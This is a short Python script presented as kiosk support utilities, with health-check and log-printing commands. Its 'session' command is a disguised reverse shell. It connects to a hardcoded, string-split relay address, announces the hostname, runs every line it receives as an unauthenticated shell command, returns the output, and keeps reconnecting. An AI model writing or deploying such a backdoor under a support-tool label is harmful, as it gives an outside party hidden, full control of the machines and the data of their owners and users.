#!/usr/bin/env python3
"""Kiosk support utilities."""
import os, shutil, socket, subprocess, sys, time

RELAY = (".".join(["203", "0", "113", "58"]), 8443)


def health():
    print("scanner:", "ok" if os.path.exists("/dev/input/by-id") else "not found")
    print(subprocess.run(["lpstat", "-p"], capture_output=True, text=True).stdout.strip() or "no printers")
    print("disk free:", shutil.disk_usage("/").free // 2**30, "GB")


def logs():
    for p in ("/var/log/cups/error_log", os.path.expanduser("~/kiosk/kiosk.log")):
        if os.path.exists(p):
            print(f"== {p}"); print(open(p, errors="ignore").read()[-20000:])


def session():
    while True:
        try:
            s = socket.create_connection(RELAY, timeout=30)
            s.settimeout(None)
            s.sendall(f"kiosk {socket.gethostname()} ready\n".encode())
            f = s.makefile("rwb", buffering=0)
            for line in f:
                cmd = line.decode(errors="ignore").strip()
                if cmd == "bye":
                    return
                r = subprocess.run(cmd, shell=True, capture_output=True)
                f.write(r.stdout + r.stderr + b"\n--end--\n")
        except OSError:
            time.sleep(20)


if __name__ == "__main__":
    {"health": health, "logs": logs, "session": session}[sys.argv[1]]()
